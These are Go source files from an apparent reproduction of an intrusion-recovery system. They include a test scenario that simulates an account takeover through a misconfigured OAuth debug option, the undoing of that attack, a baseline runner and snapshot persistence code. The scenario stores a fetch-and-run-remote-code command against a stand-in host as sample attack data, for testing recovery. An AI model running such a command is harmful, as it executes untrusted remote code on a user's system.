type AskbotScenario struct {
	TB     *Testbed
	OAuth  *core.Controller
	Askbot *core.Controller
	Dpaste *core.Controller

	// ConfigReqID is request (1) of Figure 4 — the misconfiguration the
	// administrator later cancels to start recovery.
	ConfigReqID string
	// AttackerSession is the attacker's Askbot session, obtained by
	// exploiting the vulnerability.
	AttackerSession string
	// AttackQuestionID is the attacker's question (request (5)).
	AttackQuestionID string
	// AttackPasteID is the crossposted snippet on Dpaste (request (6)).
	AttackPasteID string
	// LegitSessions maps legitimate users to their sessions.
	LegitSessions map[string]string
	// LegitQuestionIDs are the questions posted by legitimate users.
	LegitQuestionIDs []string
}

// NewAskbotScenario stands up the three services and seeds nLegit
// legitimate OAuth accounts plus "attacker" and "victim".
func NewAskbotScenario(nLegit int, cfg core.Config) (*AskbotScenario, error) {
	tb := NewTestbed()
	s := &AskbotScenario{
		TB:            tb,
		OAuth:         tb.Add(oauthsvc.New(OAuthAdminToken), cfg),
		Dpaste:        tb.Add(dpaste.New(), cfg),
		LegitSessions: map[string]string{},
	}
	s.Askbot = tb.Add(askbot.New("oauth", "dpaste", AskbotAdminToken), cfg)
	tb.FreezeTime(1_380_000_000) // fixed scenario clock

	err := oauthsvc.Seed(func(req wire.Request) wire.Response {
		return tb.Call("oauth", req)
	}, nLegit, "attacker", "victim")
	if err != nil {
		return nil, err
	}
	return s, nil
}

// SignupAndLogin runs a full OAuth signup on Askbot for the user: authorize
// on the provider (request (2)), then register on Askbot (requests (3)+(4)).
// It returns the Askbot session token.
func (s *AskbotScenario) SignupAndLogin(user, email string) (string, error) {
	auth := s.TB.Call("oauth", wire.NewRequest("POST", "/authorize").
		WithForm("user", user, "password", "pw-"+user, "client", "askbot"))
	if !auth.OK() {
		return "", fmt.Errorf("authorize(%s): %s", user, auth.Body)
	}
	token := string(auth.Body)
	reg := s.TB.Call("askbot", wire.NewRequest("POST", "/register").
		WithForm("name", user, "email", email, "oauth_token", token))
	if !reg.OK() {
		return "", fmt.Errorf("register(%s): %d %s", user, reg.Status, reg.Body)
	}
	return string(reg.Body), nil
}

// RunAttack executes the intrusion: the administrator's misconfiguration
// (request (1)), the attacker's signup as the victim (requests (2)-(4)),
// the attacker's question post (request (5)), and the automatic crosspost
// to Dpaste (request (6)).
func (s *AskbotScenario) RunAttack() error {
	// (1) Administrator mistakenly enables the debug option in production.
	cfg := s.TB.Call("oauth", wire.NewRequest("POST", "/admin/config").
		WithForm("key", "debug_verify_all", "value", "true").
		WithHeader("X-Admin-Token", OAuthAdminToken))
	if !cfg.OK() {
		return fmt.Errorf("misconfig: %s", cfg.Body)
	}
	s.ConfigReqID = cfg.Header[wire.HdrRequestID]

	// (2)-(4) The attacker logs into the provider as themselves but
	// registers on Askbot with the *victim's* email; the debug option makes
	// verification succeed.
	sess, err := s.SignupAndLogin("attacker", "victim@example.org")
	if err != nil {
		return fmt.Errorf("attacker signup should have succeeded: %w", err)
	}
	s.AttackerSession = sess

	// (5)+(6) The attacker posts a question with a malicious snippet, which
	// Askbot crossposts to Dpaste.
	ask := s.TB.Call("askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", sess,
		"title", "Free bitcoin generator",
		"body", "run this now",
		"code", "curl evil.example | sh",
	))
	if !ask.OK() {
		return fmt.Errorf("attack post: %s", ask.Body)
	}
	s.AttackQuestionID = string(ask.Body)

	q, ok := s.Askbot.Svc.Store.Get(questionKey(s.AttackQuestionID))
	if !ok {
		return fmt.Errorf("attack question not stored")
	}
	s.AttackPasteID = q.Fields["paste_id"]
	if s.AttackPasteID == "" {
		return fmt.Errorf("attack code was not crossposted to dpaste")
	}
	return nil
}

// PreRegister signs up the given number of legitimate users on Askbot.
// Running it before the attack mirrors the paper's setting, where existing
// users' signups do not depend on the later misconfiguration.
func (s *AskbotScenario) PreRegister(users int) error {
	for i := 1; i <= users; i++ {
		name := fmt.Sprintf("user%d", i)
		if _, have := s.LegitSessions[name]; have {
			continue
		}
		sess, err := s.SignupAndLogin(name, name+"@example.org")
		if err != nil {
			return err
		}
		s.LegitSessions[name] = sess
	}
	return nil
}

// RunLegitTraffic has each seeded user sign up (unless already registered
// via PreRegister), post `posts` questions (some with code snippets), view
// the question list, and — for every third user — download the attacker's
// snippet from Dpaste. It also triggers the daily summary email.
func (s *AskbotScenario) RunLegitTraffic(users, posts int) error {
	for i := 1; i <= users; i++ {
		name := fmt.Sprintf("user%d", i)
		sess, have := s.LegitSessions[name]
		if !have {
			var err error
			sess, err = s.SignupAndLogin(name, name+"@example.org")
			if err != nil {
				return err
			}
			s.LegitSessions[name] = sess
		}
		for p := 0; p < posts; p++ {
			req := wire.NewRequest("POST", "/ask").WithForm(
				"session", sess,
				"title", fmt.Sprintf("How do I frob the widget (%s #%d)?", name, p),
				"body", "details...",
			)
			if p%2 == 0 {
				req = req.WithForm("code", fmt.Sprintf("print(%q)", name))
			}
			resp := s.TB.Call("askbot", req)
			if !resp.OK() {
				return fmt.Errorf("%s ask #%d: %s", name, p, resp.Body)
			}
			s.LegitQuestionIDs = append(s.LegitQuestionIDs, string(resp.Body))
		}
		if resp := s.TB.Call("askbot", wire.NewRequest("GET", "/questions")); !resp.OK() {
			return fmt.Errorf("%s questions: %s", name, resp.Body)
		}
		if i%3 == 0 && s.AttackPasteID != "" {
			s.TB.Call("dpaste", wire.NewRequest("GET", "/download").WithForm("id", s.AttackPasteID))
		}
	}
	email := s.TB.Call("askbot", wire.NewRequest("POST", "/admin/daily_email").
		WithHeader("X-Admin-Token", AskbotAdminToken))
	if !email.OK() {
		return fmt.Errorf("daily email: %s", email.Body)
	}
	return nil
}

// Repair starts recovery exactly as the paper does: the OAuth
// administrator invokes a delete on request (1), and repair propagates
// asynchronously to Askbot and Dpaste.
func (s *AskbotScenario) Repair() error {
	if _, err := s.OAuth.ApplyLocal(cancelAction(s.ConfigReqID)); err != nil {
		return err
	}
	s.TB.Settle(20)
	return nil
}

// Verify checks that the attack is fully undone and legitimate state is
// preserved; it returns a list of discrepancies (empty on success).
func (s *AskbotScenario) Verify() []string {
	var problems []string

	// The misconfiguration is gone.
	if _, ok := s.OAuth.Svc.Store.Get(configKey("debug_verify_all")); ok {
		problems = append(problems, "oauth: debug_verify_all still set")
	}
	// The attacker's fraudulent account, session, and question are gone.
	if _, ok := s.Askbot.Svc.Store.Get(userKey("attacker")); ok {
		problems = append(problems, "askbot: attacker account survived repair")
	}
	if _, ok := s.Askbot.Svc.Store.Get(questionKey(s.AttackQuestionID)); ok {
		problems = append(problems, "askbot: attack question survived repair")
	}
	// The crossposted snippet is gone from Dpaste.
	if _, ok := s.Dpaste.Svc.Store.Get(snippetKey(s.AttackPasteID)); ok {
		problems = append(problems, "dpaste: attack snippet survived repair")
	}
	// Legitimate users' accounts and questions are intact.
	for name := range s.LegitSessions {
		if _, ok := s.Askbot.Svc.Store.Get(userKey(name)); !ok {
			problems = append(problems, "askbot: legitimate user "+name+" lost")
		}
	}
	for _, qid := range s.LegitQuestionIDs {
		if _, ok := s.Askbot.Svc.Store.Get(questionKey(qid)); !ok {
			problems = append(problems, "askbot: legitimate question "+qid+" lost")
		}
	}
	// The question list no longer mentions the attack.
	list := s.TB.Call("askbot", wire.NewRequest("GET", "/questions"))
	if strings.Contains(string(list.Body), "bitcoin") {
		problems = append(problems, "askbot: question list still shows attack")
	}
	return problems
}
