package harness

import (
	"aire/internal/core"
	"aire/internal/repairlog"
	"aire/internal/transport"
	"aire/internal/vdb"
	"aire/internal/web"
	"aire/internal/wire"
)

// BareRunner runs an application with no Aire interposition: no repair log,
// no versioning (latest-only store), no dependency tracking, no Aire
// headers. It is the "without Aire" baseline of the paper's Table 4
// overhead experiments.
type BareRunner struct {
	Svc *web.Service
	Net core.Caller
}

// NewBareRunner builds the baseline runtime for app, delivering outgoing
// calls over net.
func NewBareRunner(app core.App, net core.Caller) *BareRunner {
	svc := web.NewService(app.Name())
	svc.Store = vdb.NewStoreLatestOnly()
	app.Register(svc)
	return &BareRunner{Svc: svc, Net: net}
}

var _ transport.Handler = (*BareRunner)(nil)

// HandleWire executes a request with plain-framework semantics.
func (b *BareRunner) HandleWire(from string, req wire.Request) wire.Response {
	b.Svc.Mu.Lock()
	defer b.Svc.Mu.Unlock()
	rec := &repairlog.Record{
		ID:   b.Svc.IDs.Request(),
		TS:   b.Svc.Clock.Next(),
		From: from,
		Req:  req,
	}
	exec := &web.Exec{Svc: b.Svc, Rec: rec, Mode: web.Normal, Bare: true, Outbound: b.outbound}
	return exec.Run()
}

func (b *BareRunner) outbound(seq int, target string, req wire.Request) (wire.Response, repairlog.Call) {
	resp, err := b.Net.Call(b.Svc.Name, target, req)
	if err != nil {
		resp = wire.NewResponse(wire.StatusTimeout, err.Error())
	}
	return resp, repairlog.Call{Target: target}
}
