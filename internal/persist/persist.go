// Package persist serializes an Aire service's durable state — the repair
// log, the versioned database, the logical clock, the identifier counter,
// and the outgoing repair queue — so a service can restart without losing
// the ability to repair its past (§2.2) or to deliver queued repair
// messages to peers that were offline (§3.2).
//
// The snapshot format is a single JSON document. Production deployments
// would write it incrementally; snapshotting is sufficient for this
// reproduction and for crash-restart testing.
package persist

import (
	"encoding/json"
	"fmt"
	"io"
	"os"

	"aire/internal/core"
	"aire/internal/deliver"
	"aire/internal/repairlog"
	"aire/internal/vdb"
)

// Snapshot is the serializable state of one Aire-enabled service.
type Snapshot struct {
	// Service is the service name, checked on restore.
	Service string `json:"service"`
	// ClockNow is the logical clock's latest timestamp.
	ClockNow int64 `json:"clock_now"`
	// IDCounter is the identifier generator's counter.
	IDCounter int64 `json:"id_counter"`
	// GCBefore is the garbage-collection horizon.
	GCBefore int64 `json:"gc_before,omitempty"`
	// Records is the repair log, oldest first.
	Records []*repairlog.Record `json:"records"`
	// Objects is the versioned database contents.
	Objects []vdb.ObjectDump `json:"objects"`
	// Queue is the outgoing repair message queue.
	Queue []core.PendingMsg `json:"queue,omitempty"`
	// Inbox is the peer-side exactly-once dedup memory (internal/deliver):
	// restoring it keeps a crash-restarted service from re-applying a
	// repair delivery it already applied when the sender redelivers.
	Inbox []deliver.OriginDump `json:"inbox,omitempty"`
	// Batch is the accepted-but-unapplied incoming repair batch
	// (Config.BatchIncoming), with delivery identities so restore can
	// re-reserve each delivery in the dedup inbox.
	Batch []core.BatchedAction `json:"batch,omitempty"`
}

// Capture snapshots a controller. The cut is atomic — the repair log, the
// store, the outgoing queue, the dedup inbox, and the accepted incoming
// batch are all read in one critical section (core.ExportAtomic) that also
// holds the pump's claim/reconcile lock — so Capture is safe with the
// background pump running: it sees the queue either before or after any
// delivery's reconcile, never between a claim and its ack.
func Capture(c *core.Controller) *Snapshot {
	ex := c.ExportAtomic()
	return &Snapshot{
		Service:   c.Svc.Name,
		ClockNow:  ex.ClockNow,
		IDCounter: ex.IDCounter,
		GCBefore:  ex.GCBefore,
		Records:   ex.Records,
		Objects:   ex.Objects,
		Queue:     ex.Queue,
		Inbox:     ex.Inbox,
		Batch:     ex.Batch,
	}
}

// Apply restores a snapshot into a freshly constructed controller (same
// application, empty state).
func Apply(c *core.Controller, s *Snapshot) error {
	if c.Svc.Name != s.Service {
		return fmt.Errorf("persist: snapshot is for service %q, controller is %q", s.Service, c.Svc.Name)
	}
	c.Svc.Mu.Lock()
	defer c.Svc.Mu.Unlock()
	if c.Svc.Log.Len() != 0 {
		return fmt.Errorf("persist: controller already has %d log records", c.Svc.Log.Len())
	}
	if err := c.Svc.Store.Restore(s.Objects); err != nil {
		return err
	}
	for _, r := range s.Records {
		if err := c.Svc.Log.Append(r.Clone()); err != nil {
			return err
		}
	}
	if s.GCBefore > 0 {
		c.Svc.Log.GC(s.GCBefore)
		c.Svc.Store.GC(s.GCBefore)
	}
	c.Svc.Clock.Observe(s.ClockNow)
	c.Svc.IDs.SetCounter(s.IDCounter)
	c.ImportInbox(s.Inbox)
	c.ImportQueue(s.Queue)
	c.ImportBatch(s.Batch)
	return nil
}

// Write serializes a snapshot to w as JSON.
func (s *Snapshot) Write(w io.Writer) error {
	enc := json.NewEncoder(w)
	return enc.Encode(s)
}

// Read parses a snapshot from r.
func Read(r io.Reader) (*Snapshot, error) {
	var s Snapshot
	if err := json.NewDecoder(r).Decode(&s); err != nil {
		return nil, fmt.Errorf("persist: decode snapshot: %w", err)
	}
	return &s, nil
}

// SaveFile captures a controller's state into path (atomically via a
// temporary file).
func SaveFile(c *core.Controller, path string) error {
	tmp := path + ".tmp"
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	if err := Capture(c).Write(f); err != nil {
		f.Close()
		os.Remove(tmp)
		return err
	}
	if err := f.Close(); err != nil {
		os.Remove(tmp)
		return err
	}
	return os.Rename(tmp, path)
}

// LoadFile restores a controller's state from path.
func LoadFile(c *core.Controller, path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	s, err := Read(f)
	if err != nil {
		return err
	}
	return Apply(c, s)
}
